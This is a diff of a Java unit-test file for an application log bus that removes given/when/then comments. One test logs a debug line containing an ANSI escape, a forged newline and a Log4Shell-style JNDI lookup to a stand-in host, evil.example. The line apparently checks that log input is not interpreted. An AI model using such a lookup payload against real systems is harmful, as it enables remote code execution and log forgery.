@@ -68,17 +68,14 @@ class ApplicationLogTest {
 
   @Test
   void handsLinesOverInOrderOnTheThreadOfTheBus() {
-    // given
     AgentLog log = log(LogDestination.SYSTEM_LOGGER, MainThread.running());
 
-    // when
     log.error("one");
     log.warn("two");
     log.info("three");
     log.debug("four\u001b[2J\nforged ${jndi:ldap://evil.example/x}");
     bus.close(TIMEOUT);
 
-    // then
     assertThat(keeping.records)
         .containsExactly(
             "loop-sentinel events SEVERE one",
@@ -103,7 +100,6 @@ class ApplicationLogTest {
     }
     AgentLog log = log(LogDestination.SYSTEM_LOGGER, starting.get(0));
 
-    // when
     log.warn("before");
     synchronized (starting) {
       starting.clear();
@@ -113,36 +109,29 @@ class ApplicationLogTest {
     log.warn("after");
     bus.close(TIMEOUT);
 
-    // then
     assertThat(others).containsExactly("WARN before");
     assertThat(keeping.records).containsExactly("loop-sentinel events WARNING after");
   }
 
   @Test
   void writesElsewhereOnceTheBusHasClosed() {
-    // given
     AgentLog log = log(LogDestination.SYSTEM_LOGGER, MainThread.running());
 
-    // when
     bus.close(TIMEOUT);
     log.warn("late");
 
-    // then
     assertThat(others).containsExactly("WARN late");
     assertThat(keeping.records).isEmpty();
   }
 
   @Test
   void reportsMissingLoggerOnceAndUsesTheFallback() throws InterruptedException {
-    // given
     AgentLog log = log(LogDestination.SLF4J, endedThreadOf(ClassLoader.getPlatformClassLoader()));
 
-    // when
     log.warn("one");
     log.info("two");
     bus.close(TIMEOUT);
 
-    // then
     assertThat(others)
         .containsExactly(
             "WARN telemetry.log_to: slf4j is not visible to the application's class loader; lines"
@@ -153,7 +142,6 @@ class ApplicationLogTest {
 
   @Test
   void usesTheFallbackIfTheLoggerFails() {
-    // given
     logger.addHandler(
         new Keeping() {
           @Override
@@ -163,12 +151,10 @@ class ApplicationLogTest {
         });
     AgentLog log = log(LogDestination.SYSTEM_LOGGER, MainThread.running());
 
-    // when
     log.warn("one");
     log.warn("two");
     bus.close(TIMEOUT);
 
-    // then
     assertThat(others)
         .containsExactly(
             "WARN telemetry.log_to: system_logger fails with java.lang.IllegalStateException; lines"
